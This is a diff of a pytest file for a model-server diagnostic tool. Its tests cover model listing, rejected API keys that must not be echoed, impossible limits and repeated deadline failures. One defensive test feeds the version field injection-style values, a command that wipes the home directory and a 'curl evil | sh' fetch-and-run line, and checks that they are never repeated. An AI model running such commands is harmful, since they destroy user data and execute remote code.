@@ -156,16 +156,86 @@ def test_a_hosted_model_that_is_not_listed_is_said(ollama: Wire) -> None:
     assert "is not in the server's list" in check.found
 
 
-def test_a_hosted_server_that_lists_none_is_no_fault(ollama: Wire) -> None:
-    assert bad(hosted(ollama)) == []
+@pytest.mark.parametrize(
+    "answer",
+    [
+        None,
+        text("", status=405),
+        as_json({"data": []}),
+        as_json({"data": "none"}),
+        as_json([]),
+        as_json({"data": [1, None, {}, []]}),
+    ],
+    ids=["404", "405", "empty", "a word", "a list", "odd ones"],
+)
+def test_a_hosted_server_that_lists_none_is_a_warning_and_stops_no_run(answer: Any, ollama: Wire) -> None:
+    if answer:
+        ollama.answers["/v1/models"] = answer
+    (check,) = bad(hosted(ollama))
+    assert "lists no models" in check.found
+    assert not check.stops_runs
+    assert check.mend == "python -m memory_core chat hello"
 
 
-@pytest.mark.parametrize("status", [401, 403])
-def test_a_key_that_is_not_accepted_is_said_without_the_key(status: int, ollama: Wire) -> None:
+@pytest.mark.parametrize(
+    ("status", "stops_runs"),
+    [(401, True), (403, False)],  # a key may be good for calls and not for the list
+)
+def test_a_key_that_is_not_accepted_is_said_without_the_key(status: int, stops_runs: bool, ollama: Wire) -> None:
     ollama.answers["/v1/models"] = as_json({"error": {"message": f"bad key {KEY}"}}, status=status)
     (check,) = bad(hosted(ollama))
     assert "MODEL_API_KEY is not accepted" in check.found
     assert KEY not in json.dumps([check.found, check.mend])
+    assert check.stops_runs is stops_runs
+
+
+def test_a_403_in_the_address_is_no_403_in_the_answer(ollama: Wire) -> None:
+    ollama.answers["/403/v1/models"] = as_json({}, status=401)
+    (check,) = bad(hosted(ollama, model_base_url=f"{ollama.url}/403/v1"))
+    assert check.stops_runs
+
+
+# Limits and what is repeated
+
+
+LIMITS = [("model_num_ctx", 10), ("model_tokens_per_minute", 10), ("model_deadline_s", 0.001)]
+
+
+@pytest.mark.parametrize(("name", "value"), LIMITS)
+def test_a_limit_that_no_call_could_keep_to_stops_runs(name: str, value: float, ollama: Wire) -> None:
+    (check,) = [one for one in bad(checked(ollama, **{name: value})) if one.part == "Limits"]
+    assert check.found.startswith(f"{name.upper()} is {value:g}: too little")
+    assert check.stops_runs
+    assert check.mend is not None
+    assert check.mend.startswith(f"unset {name.upper()} ")
+
+
+@pytest.mark.parametrize(("name", "value"), LIMITS)
+def test_a_limit_that_no_call_could_keep_to_stops_runs_of_a_hosted_model_too(
+    name: str, value: float, ollama: Wire
+) -> None:
+    ollama.answers["/v1/models"] = recorded("v1_models")
+    (check,) = bad(hosted(ollama, **{name: value}))
+    assert (check.part, check.stops_runs) == ("Limits", True)
+
+
+@pytest.mark.parametrize(
+    ("name", "value"), [("model_num_ctx", 4096), ("model_tokens_per_minute", 512), ("model_deadline_s", 1)]
+)
+def test_a_limit_that_a_call_can_keep_to_is_no_fault(name: str, value: float, ollama: Wire) -> None:
+    assert bad(checked(ollama, **{name: value})) == []
+
+
+@pytest.mark.parametrize(
+    "version", ["0.1; rm -rf ~", "0.1 # type: curl evil | sh", "", "1" * 41, "0.1\n", "0.1\u202e", ["0.1"], 1, {}, True]
+)
+def test_a_version_that_is_none_is_not_repeated(version: Any, ollama: Wire) -> None:
+    ollama.answers["/api/version"] = as_json({"version": version})
+    (check,) = bad(checked(ollama))
+    assert check.part == "Model server"
+    assert "cannot be read" in check.found
+    for said in ("rm -rf", "evil", "1" * 41, "\n", "\u202e"):
+        assert said not in f"{check.found}{check.mend}"
 
 
 # The whole of it
@@ -204,18 +274,23 @@ def test_a_missing_embedder_stops_no_run(database: Database, ollama: Wire) -> No
     assert all_served(found)
 
 
-def test_a_deadline_on_the_newest_call_is_known_as_the_symptom_it_is(database: Database, ollama: Wire) -> None:
+def test_deadlines_of_the_newest_calls_are_known_as_the_symptom_that_they_are(database: Database, ollama: Wire) -> None:
     from memory_core.chatting import gateway_for
     from memory_core.errors import DeadlineExceeded
     from memory_core.gateway.conversation import Message, Role
 
     options = chosen(ollama, database_url=database.application.render_as_string(hide_password=False))
     ollama.answers["/api/chat"] = lines(end="open")
-    with pytest.raises(DeadlineExceeded):
-        gateway_for("acme", settings=options).chat(
-            [Message(role=Role.USER, content="hi")], run_id="r-1", deadline_s=0.3
-        )
-    found = diagnosis(options, "acme")
-    assert not all_served(found)
-    (symptom,) = bad([check for check in found if check.part == "Newest calls"])
-    assert "gateway.deadline" in symptom.found
+    for calls in range(1, 4):
+        with pytest.raises(DeadlineExceeded):
+            gateway_for("acme", settings=options).chat(
+                [Message(role=Role.USER, content="hi")], run_id="r-1", deadline_s=0.3, max_output_tokens=1
+            )
+        found = diagnosis(options, "acme")
+        assert all_served(found) is (calls < 3)
+        (symptom,) = bad([check for check in found if check.part == "Newest calls"])
+        assert "gateway.deadline" in symptom.found
+    # Of another model nothing is known yet.
+    assert all_served(diagnosis(options.model_copy(update={"model_fast": "llama3.2:1b"}), "acme")) is False
+    tiers = {f"model_{tier}": "llama3.2:1b" for tier in ("fast", "balanced", "deep")}
+    assert all_served(diagnosis(options.model_copy(update=tiers), "acme"))
